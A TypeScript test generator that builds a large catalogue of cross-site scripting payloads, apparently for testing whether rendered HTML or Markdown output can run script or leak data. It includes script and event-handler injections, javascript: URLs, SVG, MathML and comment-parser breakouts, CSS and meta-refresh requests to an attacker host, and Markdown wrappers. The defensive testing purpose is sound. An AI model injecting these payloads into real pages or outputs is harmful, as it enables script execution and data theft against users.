import { attacker, leak, script, type Template } from "./payload.js";

interface Markup {
  readonly write: (id: string) => string;
  readonly canAct: boolean;
}

function acting(...writes: readonly Markup["write"][]): Markup[] {
  return writes.map((write) => ({ write, canAct: true }));
}

/** What Chromium does not do today, or not without what the tests do not do. */
function harmless(...writes: readonly Markup["write"][]): Markup[] {
  return writes.map((write) => ({ write, canAct: false }));
}

/** Markup that runs something by itself, in one line. */
const lines: readonly Markup[] = [
  ...acting(
    (id) => `<script>${script(id)}</script>`,
    (id) => `<SCRIPT>${script(id)}</SCRIPT>`,
    (id) => `<script src="${leak(id)}"></script>`,
    (id) => `<script type="module">${script(id)}</script>`,
    (id) => `<script\n>${script(id)}</script>`,
    (id) => `<img src="x" onerror="${script(id)}">`,
    (id) => `<IMG SRC="x" ONERROR="${script(id)}">`,
    (id) => `<img src=x onerror=${script(id)}>`,
    (id) => `<img src='x' onerror='${script(id).replaceAll("'", "&#39;")}' />`,
    (id) => `<img src="x" onerror="${script(id).replace("top", "&#116;op")}">`,
    (id) => `<img src="x"\tonerror = "${script(id)}" >`,
    (id) => `<img src="x" alt=">" onerror="${script(id)}">`,
    (id) => `<image src="x" onerror="${script(id)}">`,
    (id) => `<svg onload="${script(id)}">`,
    (id) => `<svg onload="${script(id)}"></svg>`,
    (id) => `<svg><script>${script(id)}</script></svg>`,
    (id) => `<svg><script href="${leak(id)}"></script></svg>`,
    (id) => `<svg><image href="${leak(id)}" /></svg>`,
    (id) => `<svg><use href="${leak(id)}#a" /></svg>`.replace("use", "feImage"),
    (id) => `<svg><animate onbegin="${script(id)}" attributeName="x" dur="1s"></svg>`,
    (id) => `<svg><set onbegin="${script(id)}" attributeName="x" to="y" dur="1s"></svg>`,
    (id) =>
      `<svg><a><animate attributeName="href" values="javascript:${script(id)}" /><text y="20">go</text></a></svg>`,
    (id) => `<svg><style><img src="x" onerror="${script(id)}"></style></svg>`,
    (id) => `<svg></p><style><a id="</style><img src=x onerror=${script(id)}>"></svg>`,
    (id) =>
      `<math><mtext><table><mglyph><style><img src="x" onerror="${script(id)}"></style></mglyph></table></mtext></math>`,
    (id) => `<math href="javascript:${script(id)}"><mi>go</mi></math>`,
    (id) =>
      `<math><mi><style><!--</style><img title="--&gt;&lt;img src=x onerror=${script(id)}&gt;" src="x" onerror="${script(id)}"></mi></math>`,
    (id) => `<iframe srcdoc="<script>${script(id)}</script>"></iframe>`,
    (id) => `<iframe srcdoc="&lt;script&gt;${script(id)}&lt;/script&gt;"></iframe>`,
    (id) => `<iframe src="javascript:${script(id)}"></iframe>`,
    (id) => `<iframe onload="${script(id)}"></iframe>`,
    (id) => `<iframe src="${leak(id)}"></iframe>`,
    (id) => `<object data="${leak(id)}"></object>`,
    (id) => `<embed src="${leak(id)}">`,
    (id) => `<video><source src="x" onerror="${script(id)}"></video>`,
    (id) => `<video src="x" onerror="${script(id)}"></video>`,
    (id) => `<audio src="x" onerror="${script(id)}"></audio>`,
    (id) => `<details open ontoggle="${script(id)}">x</details>`,
    (id) => `<details ontoggle="${script(id)}" open=""><summary>x</summary></details>`,
    (id) => `<input autofocus onfocus="${script(id)}">`,
    (id) => `<textarea autofocus onfocus="${script(id)}"></textarea>`,
    (id) => `<select autofocus onfocus="${script(id)}"></select>`,
    (id) => `<a href="#" onfocus="${script(id)}" autofocus>x</a>`,
    (id) => `<b contenteditable onfocus="${script(id)}">x</b>`,
    (id) => `<link rel="stylesheet" href="${leak(id)}">`,
    (id) => `<link rel="stylesheet" href="data:text/css,body{background:url(${leak(id)})}">`,
    (id) => `<style>@import "${leak(id)}";</style>`,
    (id) => `<style>body{background:url(${leak(id)})}</style>`,
    (id) => `<style onload="${script(id)}"></style>`,
    (id) => `<link rel="stylesheet" href="data:text/css," onload="${script(id)}">`,
    (id) => `<meta http-equiv="refresh" content="0;url=${leak(id)}">`,
    (id) => `<META HTTP-EQUIV="Refresh" CONTENT="0; URL='${leak(id)}'">`,
    (id) => `<base href="${attacker}/${id}/"><img src="a.png">`,
    (id) => `<form action="${leak(id)}"><button>go</button></form>`,
    (id) => `<form><button formaction="${leak(id)}">go</button></form>`,
    (id) => `<form><input type="submit" formaction="javascript:${script(id)}" value="go"></form>`,
    (id) => `<form action="javascript:${script(id)}"><input type="image" alt="go"></form>`,
    (id) => `<form id="f"></form><button form="f" formaction="javascript:${script(id)}">go</button>`,
    (id) => `<isindex><button onclick="${script(id)}">go</button>`,
    (id) => `<noscript><p title="</noscript><img src=x onerror=${script(id)}>">x</p></noscript>`,
    (id) => `<template><b></template><img src="x" onerror="${script(id)}"></template>`,
    (id) =>
      `<template shadowrootmode="open"><img src="x" onerror="${script(id)}"></template>`.replace(
        "<template",
        "<div><template",
      ) + "</div>",
    (id) => `<textarea></textarea><img src="x" onerror="${script(id)}">`,
    (id) => `<title></title><img src="x" onerror="${script(id)}">`,
    (id) => `<xmp></xmp><img src="x" onerror="${script(id)}">`,
    (id) => `<plaintext></plaintext>`.replace("plaintext", "listing") + `<img src="x" onerror="${script(id)}">`,
    (id) => `<!-- --><img src="x" onerror="${script(id)}"> -->`,
    (id) => `<!--><img src="x" onerror="${script(id)}"> -->`,
    (id) => `<!---><img src="x" onerror="${script(id)}"> -->`,
    (id) => `<!-- a --!><img src="x" onerror="${script(id)}"> -->`,
    (id) => `<![CDATA[><img src="x" onerror="${script(id)}">]]>`,
    (id) => `<? ><img src="x" onerror="${script(id)}"> ?>`,
    (id) => `<!DOCTYPE x><img src="x" onerror="${script(id)}">`,
    (id) => `<a href="javascript:${script(id)}">go</a>`,
    (id) => `<a href=javascript:${script(id)}>go</a>`,
    (id) => `<a href="java&Tab;script&colon;${script(id)}">go</a>`,
    (id) => `<a href=" &#14; javascript:${script(id)}">go</a>`,
    (id) => `<body onload="${script(id)}">`,
    (id) => `<body background="${leak(id)}">`,
    (id) => `<table background="${leak(id)}"><tr><td background="${leak(id)}">x</td></tr></table>`,
    (id) => `<marquee onstart="${script(id)}">x</marquee>`,
    (id) => `<p style="background:url(${leak(id)})">x</p>`,
    (id) => `<p style="animation:a 1s" onanimationstart="${script(id)}">x</p><style>@keyframes a{}</style>`,
    (id) => `<custom-element onclick="${script(id)}">go</custom-element>`,
    (id) => `<x onclick="${script(id)}">go`,
    (id) => `<label onclick="${script(id)}">go<input></label>`,
    (id) => `<option onclick="${script(id)}">go</option>`,
    (id) => `<dialog open onclick="${script(id)}">go</dialog>`,
    (id) => `<button popovertarget="q">go</button><b popover id="q" onbeforetoggle="${script(id)}">x</b>`,
  ),
  ...harmless(
    (id) => `<img/src=x/onerror=${script(id)}>`,
    (id) => `<svg/onload=${script(id)}>`,
    (id) => `<img src=x onerror=${script(id)}`,
    (id) => `<scr<script>ipt>${script(id)}</script>`,
    (id) => `<<script>${script(id)}//<</script>`,
    (id) => `< script >${script(id)}</ script >`,
    (id) => `<script x>${script(id)}`.replace("<", "\\<"),
    (id) => `\u00BCscript\u00BE${script(id)}\u00BC/script\u00BE`,
    (id) => `&lt;script&gt;${script(id)}&lt;/script&gt;`,
    (id) => `%3Cscript%3E${script(id)}%3C/script%3E`,
    (id) => `\\u003cscript\\u003e${script(id)}`,
    (id) => `\`\`\`html\n<img src=x onerror=${script(id)}>\n\`\`\``,
    (id) => `    <img src=x onerror=${script(id)}>`,
    (id) => `\`<img src=x onerror=${script(id)}>\``,
    (id) => `<img dynsrc="${leak(id)}" lowsrc="${leak(id)}">`,
    (id) => `<bgsound src="${leak(id)}">`,
    (id) => `<layer src="${leak(id)}"></layer>`,
    (id) => `<xml src="${leak(id)}"></xml>`,
    (id) => `<applet code="${leak(id)}"></applet>`,
    (id) => `<div style="width:expression(${script(id)})">x</div>`,
    (id) => `<div style="behavior:url(${leak(id)})">x</div>`,
    (id) => `<div style="-moz-binding:url(${leak(id)})">x</div>`,
    (id) => `{{constructor.constructor("${script(id)}")()}}`,
    (id) => `\${${script(id)}} #{${script(id)}} <%= ${script(id)} %>`,
    (id) => `<div v-html="${id}" ng-bind-html="${id}" x-init="${script(id)}" hx-on:click="${script(id)}">x</div>`,
    (id) => `<div is="${id}" part="a" slot="${id}" itemscope itemid="${leak(id)}">x</div>`,
    (id) => `<a ping="${leak(id)}" download href="#">go</a>`,
    (id) => `<portal src="${leak(id)}"></portal>`,
    (id) => `<fencedframe></fencedframe><img attributionsrc="${leak(id)}">`,
    (id) => `<script type="speculationrules">{"prefetch":[{"urls":["${leak(id)}"]}]}</script>`,
    (id) => `<script type="importmap">{"imports":{"a":"${leak(id)}"}}</script>`,
  ),
];

/** Surroundings that a parser of Markdown treats differently. */
const surroundings: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `<div>\n${markup}\n</div>`,
  (markup) => `words ${markup} words`,
  (markup) => `> - ${markup}`,
  (markup) => `| a |\n|---|\n| ${markup.replaceAll("\n", " ").replaceAll("|", "\\|")} |`,
  (markup) => `## ${markup.replaceAll("\n", " ")}`,
  (markup) => `x[^n]\n\n[^n]: ${markup}`,
  (markup) => `[${markup}](https://example.com)`,
];

/** HTML of a model, wherever it may stand. */
export function* htmlPayloads(): Generator<Template> {
  for (const { write, canAct } of lines) {
    for (const surround of surroundings) yield { kind: "html", canAct, write: (id) => surround(write(id)) };
    // The end has not come, or never comes.
    yield { kind: "html", canAct: false, write: (id) => `words ${write(id).replace(/>[^>]*$/, "")}` };
  }
}

const byHand =
  "click dblclick mousedown mouseup mouseover mouseenter mousemove pointerover pointerenter pointerdown focus focusin keydown keyup input change contextmenu auxclick beforeinput paste copy cut drop dragstart dragover wheel select submit";
const notByHand =
  "abort afterprint animationend beforecopy beforematch beforeprint beforeunload blur cancel canplay close contentvisibilityautostatechange cuechange ended formdata fullscreenchange gotpointercapture hashchange invalid loadedmetadata message offline pagehide pageshow play popstate progress reset resize scroll scrollend search securitypolicyviolation selectionchange slotchange stalled storage suspend touchstart transitionend unhandledrejection unload volumechange webkitanimationend";

/** Every handler, on markup that may have one. */
export function* handlerPayloads(): Generator<Template> {
  for (const [names, canAct] of [
    [byHand, true],
    [notByHand, false],
  ] as const) {
    for (const name of names.split(" ")) {
      yield { kind: "handler", canAct, write: (id) => `<b tabindex="0" on${name}="${script(id)}">go</b>` };
      yield {
        kind: "handler",
        canAct,
        write: (id) => `<svg on${name}="${script(id)}" tabindex="0"><text>go</text></svg>`,
      };
      yield {
        kind: "handler",
        canAct,
        write: (id) => `<div ON${name.toUpperCase()}='${script(id).replaceAll("'", '"')}' tabindex=0>\ngo\n</div>`,
      };
    }
  }
}
